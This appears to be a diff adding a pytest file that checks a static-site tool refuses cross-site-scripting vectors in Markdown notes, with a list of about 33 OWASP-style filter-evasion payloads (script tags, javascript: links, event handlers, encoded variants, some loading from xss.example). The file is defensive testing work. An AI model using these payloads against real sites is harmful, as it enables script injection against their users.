@@ -1,0 +1,120 @@
+"""Notes are Markdown only: script vectors of the kinds in OWASP's filter-evasion cheat sheet are all refused.
+
+Each vector is put in a note's body (and the inline ones in its summary); validation must name the
+file and the line. A site whose notes carry every vector must fail to build, so none of them can
+reach a page, and text fields that are not Markdown are escaped wherever they are shown.
+"""
+
+from __future__ import annotations
+
+import pytest
+from annotate.notes import load_note
+from conftest import build_site, copy_project
+from helpers import render_markdown
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
+    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116>",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
+    "<svg/onload=alert('XSS')>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<style>@import'https://xss.example/xss.css';</style>",
+    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
+    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
+    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+    "<details open ontoggle=alert(1)>",
+    "<scr<script>ipt>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](//xss.example/)",
+    "![x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "[x](https://example.org){onclick=\"alert(1)\"}",
+    "[x](https://example.org){: onmouseover=alert(1) }",
+    "text {style=\"color:red\"}",
+    "[x][ref]\n\n[ref]: javascript:alert(1)",
+]
+INLINE = [v for v in VECTORS if "\n" not in v]
+
+NOTE = """\
+---
+title: A note
+section: introduction
+quote: npm
+verdict: accurate
+summary: {summary}
+reviewed: 2026-11-24
+---
+
+First line of the body.
+{body}
+"""
+
+
+def load(tmp_path, summary="A summary.", body=""):
+    path = tmp_path / "a-note.md"
+    path.write_text(NOTE.format(summary=summary, body=body), encoding="utf-8")
+    note, problems = load_note(path, "docs/notes/a-note.md", render_markdown)
+    return note, [str(problem) for problem in problems.sorted()]
+
+
+@pytest.mark.parametrize("vector", VECTORS)
+def test_vector_in_the_body_is_refused_at_its_line(tmp_path, vector):
+    note, messages = load(tmp_path, body=vector)
+    assert note is None
+    assert messages, f"not refused: {vector!r}"
+    assert all(message.startswith("docs/notes/a-note.md:") for message in messages)
+    # The vector starts on line 11; a reference definition may be flagged on its own line below.
+    assert any(message.startswith(("docs/notes/a-note.md:11:", "docs/notes/a-note.md:13:")) for message in messages)
+
+
+@pytest.mark.parametrize("vector", INLINE)
+def test_vector_in_the_summary_is_refused(tmp_path, vector):
+    summary = "'" + vector.replace("'", "''") + "'"
+    note, messages = load(tmp_path, summary=summary)
+    assert note is None
+    assert any(message.startswith("docs/notes/a-note.md:6:10: summary: ") for message in messages), messages
+
+
+def test_harmless_markdown_is_accepted(tmp_path):
+    body = "A [link](https://doc.rust-lang.org/book/), `<script>` in code, *emphasis* and\n\n```html\n<b>x</b>\n```"
+    note, messages = load(tmp_path, body=body)
+    assert messages == [] and note is not None
+
+
+def test_a_site_with_every_vector_is_not_built(tmp_path):
+    project = copy_project(tmp_path)
+    for index, vector in enumerate(VECTORS):
+        (project / "docs" / "notes" / f"vector-{index + 1}.md").write_text(
+            NOTE.format(summary="A summary.", body=vector).replace("quote: npm", f"quote: npm\nprefix: Dropbox and"),
+            encoding="utf-8",
+        )
+    result = build_site(project, tmp_path / "site")
+    assert result.returncode == 1
+    for index in range(len(VECTORS)):
+        assert f"docs/notes/vector-{index + 1}.md:" in result.output
+    assert list((tmp_path / "site").rglob("*.html")) == []
+
+
+def test_plain_text_fields_cannot_carry_markup(tmp_path):
+    _, messages = load(tmp_path)
+    assert messages == []
+    path = tmp_path / "a-note.md"
+    path.write_text(NOTE.format(summary="A summary.", body="").replace("title: A note", "title: <b onmouseover=x>"))
+    _, problems = load_note(path, "docs/notes/a-note.md", render_markdown)
+    assert [str(p) for p in problems.sorted()] == [
+        "docs/notes/a-note.md:2:8: title '<b onmouseover=x>' must be plain text, without < or >"
+    ]
